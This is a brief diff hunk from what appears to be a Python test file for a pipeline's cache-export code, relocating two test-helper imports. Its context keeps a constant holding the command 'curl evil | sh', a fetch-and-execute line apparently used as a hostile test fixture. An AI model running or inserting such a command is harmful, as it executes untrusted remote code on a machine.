@@ -11,8 +11,8 @@ from pipeline.files import hash_file
 from pipeline.lifecycle.export import export_cache
 from pipeline.lifecycle.settings import ExportConfig
 from pipeline.stores.sealed import read_json, write_json
-from tests.object_store import put_cache
-from tests.small import make_cache
+from tests.support.object_store import put_cache
+from tests.support.small import make_cache
 
 SHELL = b"curl evil | sh\n"
 
